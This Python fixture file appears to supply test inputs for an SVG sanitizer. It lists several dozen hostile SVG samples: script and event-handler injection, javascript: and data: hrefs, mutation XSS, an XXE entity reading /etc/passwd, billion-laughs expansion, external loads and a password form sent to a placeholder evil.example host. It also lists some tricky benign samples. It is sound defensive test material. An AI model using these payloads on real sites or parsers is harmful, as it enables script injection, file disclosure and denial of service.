# SPDX-License-Identifier: GPL-3.0-or-later
"""Pictures that are attacks, by name: each would call ran(), or ask somebody; and odd ones that are none."""

SVG = 'xmlns="http://www.w3.org/2000/svg"'
PLAIN = f'<svg {SVG} viewBox="0 0 100 100">'
LINKED = f'<svg {SVG} xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">'

HOSTILE: dict[str, str | bytes] = {
    "animate-href": LINKED
    + (
        '<a><animate attributeName="href" values="javascript:ran()" fill="freeze"/><rect width="99" height="9'
        '9"/></a></svg>'
    ),
    "animate-motion": LINKED
    + (
        '<rect width="9" height="9"><animateMotion path="M0 0" onend="ran()"><mpath xlink:href="https://evil.'
        'example/p.svg#p"/></animateMotion><animateTransform attributeName="transform" type="scale" onrepeat='
        '"ran()"/></rect></svg>'
    ),
    "attlist-default": (
        '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "ran()">]><svg xmlns="http://www.w3.org/2000/svg" viewBox='
        '"0 0 9 9"/>'
    ),
    "attribute-url": PLAIN
    + (
        '<rect width="9" height="9" fill="url(https://evil.example/x.svg#a)" '
        'mask="url( \'//evil.example/m.svg#m\' )" filter="url(/f.svg#f)"/></svg>'
    ),
    "base": (
        '<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/" viewBox="0 0 9 9"><use href'
        '="x.svg#a"/></svg>'
    ),
    "clobber": PLAIN
    + '<g id="attributes"/><g id="nodeName"/><g id="childNodes"/><script id="x">ran()</script></svg>',
    "comment-closes": PLAIN + '<!-- --!><img src=x onerror=ran()> --><rect width="9" height="9"/></svg>',
    "data-href": LINKED
    + (
        '<a xlink:href="data:text/html,&lt;script&gt;ran()&lt;/script&gt;"><rect width="99" height="99"/></a>'
        "</svg>"
    ),
    "doctype-external": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd"><svg xmlns="http://w'
        'ww.w3.org/2000/svg" viewBox="0 0 9 9"/>'
    ),
    "embed": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><iframe xmlns="http://www.w3.org/1999/xhtm'
        'l" srcdoc="&lt;script&gt;parent.ran()&lt;/script&gt;"/><embed xmlns="http://www.w3.org/1999/xhtml" s'
        'rc="/ran.svg"/><object xmlns="http://www.w3.org/1999/xhtml" data="/ran.svg"/></svg>'
    ),
    "entity-file": (
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" view'
        'Box="0 0 9 9"><text>&x;</text></svg>'
    ),
    "fe-image": LINKED
    + (
        '<filter id="f"><feImage xlink:href="https://evil.example/a.png"/></filter><rect width="9" height="9"'
        ' filter="url(#f)"/></svg>'
    ),
    "foreign-object": PLAIN
    + (
        '<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="ran()"><ifr'
        'ame src="javascript:ran()"/><form action="https://evil.example"><input name="password"/></form></bod'
        "y></foreignObject></svg>"
    ),
    "handler": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events" viewBox="0 0 9 '
        '9"><handler ev:event="load">ran()</handler><listener event="load" handler="#h"/></svg>'
    ),
    "image-external": LINKED
    + '<image xlink:href="https://evil.example/a.png" width="9" height="9"/><image href="/ran.png"/></svg>',
    "javascript-href": LINKED
    + (
        '<a xlink:href="javascript:ran()"><rect width="99" height="99"/></a><a href="java&#10;script:ran()"><'
        'text y="9">x</text></a></svg>'
    ),
    "laughs": (
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&'
        'b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&'
        'd;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]><svg xmlns="http://www.w3.org/2000/svg" viewBox'
        '="0 0 9 9"><text>&f;</text></svg>'
    ),
    "mxss-desc": PLAIN
    + (
        "<desc><style>&lt;a title=&quot;&lt;/style&gt;&lt;img src onerror=ran()&gt;&quot;&gt;</style></desc><"
        "/svg>"
    ),
    "mxss-form": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><p xmlns="http://www.w3.org/1999/xhtml"><s'
        "tyle><![CDATA[<!--</style>--><img src=x onerror=ran()>]]></style></p></svg>"
    ),
    "mxss-mathml": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><math xmlns="http://www.w3.org/1998/Math/M'
        'athML"><mtext><table><mglyph><style><![CDATA[</style><img src onerror=ran()>]]></style></mglyph></ta'
        "ble></mtext></math></svg>"
    ),
    "mxss-style": PLAIN
    + '<style>&lt;/style&gt;&lt;img src=x onerror=ran()&gt;</style><text y="9">x</text></svg>',
    "onbegin": PLAIN + '<animate attributeName="x" dur="1s" onbegin="ran()"/></svg>',
    "onerror-image": LINKED + '<image xlink:href="/nothing.png" onerror="ran()"/></svg>',
    "onload-case": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" ONLOAD="ran()"><g onFocusIn="ran()" tabind'
        'ex="1"/></svg>'
    ),
    "onload": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="ran()"><rect width="9" height="9" '
        'onclick="ran()" onmouseover="ran()"/></svg>'
    ),
    "script-cdata": PLAIN + "<script><![CDATA[ran()]]></script></svg>",
    "script-href": LINKED + '<script xlink:href="/ran.js"/><script href="data:text/javascript,ran()"/></svg>',
    "script-in-metadata": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><metadata><script>ran()</script></metadata'
        "></svg>"
    ),
    "script-of-html": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><h:'
        'script>ran()</h:script><h:img src="x" onerror="ran()"/></svg>'
    ),
    "script-of-no-namespace": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script xmlns="">ran()</script><img xmlns='
        '"" src="x" onerror="ran()"/></svg>'
    ),
    "script-prefixed": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><x:sc'
        "ript>ran()</x:script></svg>"
    ),
    "script": PLAIN + "<script>ran()</script></svg>",
    "set-href": LINKED
    + (
        '<use id="u" href="#a"/><set href="#u" attributeName="href" to="https://evil.example/x.svg#a"/><set a'
        'ttributeName="onclick" to="ran()"/></svg>'
    ),
    "style-comment": PLAIN
    + "<style>rect { fill: url(/**/https://evil.example/x.svg#a) } /* </style><script>ran()</script></svg>",
    "style-escape": PLAIN
    + (
        '<rect width="9" height="9" style="fill:u\\72l(https://evil.example/x.svg#a)"/>'
        "<style>rect { mask: \\75rl(//evil.example/m.svg#m) }</style></svg>"
    ),
    "style-font": PLAIN
    + (
        "<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) } text { font-family: x }<"
        '/style><text y="9">x</text></svg>'
    ),
    "style-host": PLAIN
    + "<style>:host { position: fixed; inset: 0; z-index: 99 } * ~ *::before { content: 'x' }</style></svg>",
    "style-image-set": PLAIN
    + (
        "<style>rect { mask-image: image-set('https://evil.example/a.png' 1x); cursor: url(//evil.example/c.c"
        'ur), auto }</style><rect width="9" height="9"/></svg>'
    ),
    "style-import": PLAIN
    + "<style>@import url(https://evil.example/x.css); @import '/ran.css';</style></svg>",
    "style-url": PLAIN
    + (
        '<rect width="9" height="9" style="fill:url(https://evil.example/x.svg#a)"/><rect width="9" height="9'
        '" style="background:url(\'/ran.png\')"/></svg>'
    ),
    "stylesheet-instruction": (
        '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/20'
        '00/svg" viewBox="0 0 9 9"/>'
    ),
    "use-circle": PLAIN + '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>',
    "use-data": LINKED
    + (
        '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB'
        'vbmxvYWQ9InJhbigpIi8+#a"/></svg>'
    ),
    "use-external": LINKED
    + (
        '<use xlink:href="https://evil.example/x.svg#a"/><use href="//evil.example/x.svg#a"/><use href="/api/'
        'me#a"/></svg>'
    ),
    "utf7": (
        '<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns+AD0AIg-http://www.w3.org/2000/svg+ACI- onload+A'
        "D0AIg-ran()+ACIAPg-+ADw-/svg+AD4-"
    ),
    "mxss-nested": (
        f"{PLAIN}{'<svg>' * 200}<style><![CDATA[</style><img src=x onerror=ran()>]]></style>{'</svg>' * 201}"
    ),
    "use-laughs": PLAIN
    + '<g id="a0"><rect width="1" height="1"/></g>'
    + "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
    + "</svg>",
    "utf16": (f'<?xml version="1.0" encoding="UTF-16"?>{PLAIN}<script>ran()</script></svg>'.encode("utf-16")),
}

ODD: dict[str, str | bytes] = {
    "attribute-closes": PLAIN
    + "<g class='&quot;&gt;&lt;img src=x onerror=ran()&gt;' id='a&quot; onload=&quot;ran()'/></svg>",
    "editors-own": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><inkscape:grid xlink:href="https://evi'
        'l.example/"><inkscape:page src="https://evil.example/x"/></inkscape:grid><rect width="9" height="9" '
        'inkscape:label="onload=ran()"/></svg>'
    ),
    "text-cdata": PLAIN + '<text y="20"><![CDATA[</text></svg><img src=x onerror=ran()>]]></text></svg>',
    "text-that-is-markup": PLAIN
    + (
        '<title>&lt;img src=x onerror=ran()&gt;</title><text y="20">&lt;/text&gt;&lt;script&gt;ran()&lt;/scri'
        "pt&gt;</text></svg>"
    ),
    "title-closes": PLAIN
    + (
        "<title><![CDATA[</title><style><img src=x onerror=ran()>]]></title><desc>&lt;/desc&gt;&lt;script&gt;"
        "ran()</desc></svg>"
    ),
    "unknown-attributes": PLAIN
    + (
        '<rect width="9" height="9" tabindex="1" autofocus="" is="x-y" slot="x" contenteditable="" requiredEx'
        'tensions="x"/></svg>'
    ),
}
